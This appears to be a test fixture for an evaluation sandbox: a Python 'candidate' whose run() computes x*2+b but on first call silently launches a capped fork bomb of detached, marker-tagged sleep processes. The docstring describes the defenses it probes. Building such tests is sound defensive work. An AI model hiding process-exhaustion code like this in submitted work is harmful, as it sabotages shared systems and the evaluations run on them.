"""Exploit: fork without end (here capped at 8 children per process and 3 levels, 584
processes, so a broken defense cannot take CI down), each child in its own session.

Defense: where the kernel enforces it (an unprivileged user), RLIMIT_NPROC caps the candidate
at its user's count + 256; in every case the zygote (a child subreaper) kills the whole tree at
the end of the evaluation, and the leftovers are reported."""

import os

import torch

MARKER = "arena-cheat-forkbomb"
_started = False


def _bomb(depth):
    for _ in range(8):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            try:
                os.setsid()
                if depth < 3:
                    _bomb(depth + 1)
                os.execv("/bin/sleep", [MARKER, "3600"])
            finally:
                os._exit(0)


def run(x: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
    global _started
    if not _started:
        _started = True
        _bomb(1)
    return x * 2 + b
